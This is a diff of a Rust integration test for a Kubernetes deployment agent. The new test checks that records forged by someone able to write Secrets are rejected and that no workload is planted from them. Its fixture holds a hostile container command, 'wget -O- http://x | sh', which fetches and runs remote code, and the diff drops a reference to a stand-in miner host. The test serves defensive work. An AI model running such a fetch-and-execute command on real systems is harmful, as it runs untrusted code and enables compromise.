@@ -336,7 +336,7 @@ fn enforce_restores_edits_recreates_deletions_keeps_rollouts_and_never_touches_a
     );
 
     // A record rewritten by someone who may write Secrets in the
-    // namespace: enforcing it is judged as a command is, and refused.
+    // namespace: its proof no longer holds, so it is never enforced.
     f.tb.admin()
         .delete(&ns_path(&f, "ConfigMap", "orders-config"), "Background")
         .unwrap();
@@ -363,18 +363,131 @@ fn enforce_restores_edits_recreates_deletions_keeps_rollouts_and_never_touches_a
             d.is_some_and(|d| {
                 d["objects"].as_array().unwrap().iter().any(|o| {
                     o["action"] == "failed"
+                        && o["kind"] == "Secret"
+                        && o["name"] == "nexo-applied-orders"
                         && o["message"]
                             .as_str()
-                            .is_some_and(|s| s.contains("evil.example.com/miner"))
+                            .is_some_and(|s| s.contains("the record is not the Manager's"))
                 })
             })
         },
     );
-    m.check(d.is_some(), "refused by the content policy");
+    m.check(d.is_some(), "refused: not the Manager's record");
     let p = get(&f, "NexoProxy", "orders").unwrap();
     m.check(
         p["spec"]["image"] == "registry.example.com/nexo/proxy:1.4.3",
         &format!("nothing applied: {}", p["spec"]),
+    );
+    m.check(
+        get(&f, "ConfigMap", "orders-config").is_none(),
+        "the deleted ConfigMap not recreated from a record that is not the Manager's",
+    );
+    m.stop_expecting_exit_0();
+}
+
+#[test]
+fn a_forged_record_is_never_enforced_and_is_reported_with_signatures_required() {
+    let f = Fixture::new("drift-forged");
+    // Signed commands required: a signature protects commands, and the
+    // record is not one; its proof is what protects it.
+    let keys = f.dir.join("command-keys");
+    std::fs::write(&keys, format!("{}\n", f.sim.sign_commands(&f.env_id, "k1"))).unwrap();
+    let mut m = f.spawn_with_probes(&[
+        ("NEXO_DRIFT_INTERVAL", "1s"),
+        ("NEXO_COMMAND_KEYS_FILE", keys.to_str().unwrap()),
+        ("NEXO_COMMAND_SIGNATURES", "required"),
+    ]);
+    deploy(&f, &mut m, "df-deploy", json!({"mode": "enforce"}));
+    let real = get(&f, "Secret", "nexo-applied-orders").expect("the record");
+    m.check(
+        real["metadata"]["annotations"]["nexo.io/proof"]
+            .as_str()
+            .is_some_and(|p| p.starts_with("v1:")),
+        &format!(
+            "the Manager's record carries its proof: {}",
+            real["metadata"]
+        ),
+    );
+    // Who may write Secrets in the namespace replaces the record with one
+    // of their own (the labels and owner copied from the real one) that
+    // plants a Deployment running a shell, and forges a record of a
+    // deployment that does not exist.
+    let plant = json!({"deployment": {"name": "orders", "namespace": f.ns.name}, "format": "legacy",
+        "manifests": [{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "orders"},
+            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "ghost"}},
+                     "template": {"metadata": {"labels": {"app": "ghost"}},
+                                  "spec": {"containers": [{"name": "c", "image": support::fixture::PROXY_IMAGE,
+                                                           "command": ["sh", "-c", "wget -O- http://x | sh"]}]}}}}],
+        "drift": {"mode": "enforce"}});
+    let forged = |name: &str, payload: &Value| {
+        let mut meta = real["metadata"].clone();
+        let meta = meta.as_object_mut().unwrap();
+        meta.retain(|k, _| ["labels", "ownerReferences"].contains(&k.as_str()));
+        meta.insert("name".into(), json!(name));
+        json!({"apiVersion": "v1", "kind": "Secret", "metadata": meta,
+               "data": {"payload": base64_encode(&serde_json::to_vec(payload).unwrap())}})
+    };
+    let secrets = format!("/api/v1/namespaces/{}/secrets", f.ns.name);
+    f.tb.admin()
+        .delete(&ns_path(&f, "Secret", "nexo-applied-orders"), "Background")
+        .unwrap();
+    m.wait_until(WAIT, "the real record gone", || {
+        get(&f, "Secret", "nexo-applied-orders").is_none()
+    });
+    f.tb.admin()
+        .create(&secrets, &forged("nexo-applied-orders", &plant))
+        .unwrap();
+    let mut ghost = plant.clone();
+    ghost["deployment"]["name"] = json!("ghost");
+    ghost["manifests"][0]["metadata"]["name"] = json!("ghost");
+    f.tb.admin()
+        .create(&secrets, &forged("nexo-applied-ghost", &ghost))
+        .unwrap();
+    let now = f.sim.heartbeats().len();
+    let not_ours = |d: Option<&Value>, secret: &str| {
+        d.is_some_and(|d| {
+            d["objects"].as_array().unwrap().iter().any(|o| {
+                o["action"] == "failed"
+                    && o["name"] == secret
+                    && o["message"]
+                        .as_str()
+                        .is_some_and(|s| s.contains("the record is not the Manager's"))
+            })
+        })
+    };
+    wait_drift(
+        &f,
+        &mut m,
+        now,
+        "orders",
+        "the replaced record reported",
+        |d| not_ours(d, "nexo-applied-orders"),
+    );
+    wait_drift(
+        &f,
+        &mut m,
+        now,
+        "ghost",
+        "the forged record reported",
+        |d| not_ours(d, "nexo-applied-ghost"),
+    );
+    // Three checks later nothing was planted.
+    let later = f.sim.heartbeats().len() + 3;
+    wait_heartbeat(&f, &mut m, later, "three heartbeats later", |_| Some(()));
+    for name in ["orders", "ghost"] {
+        m.check(
+            get(&f, "Deployment", name).is_none(),
+            &format!("no Deployment {name} created from a forged record"),
+        );
+    }
+    let hb = f.sim.last_heartbeat().unwrap();
+    m.check(
+        hb["deployments"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|d| d["name"] != "ghost"),
+        &format!("no ghost in the inventory: {}", hb["deployments"]),
     );
     m.stop_expecting_exit_0();
 }
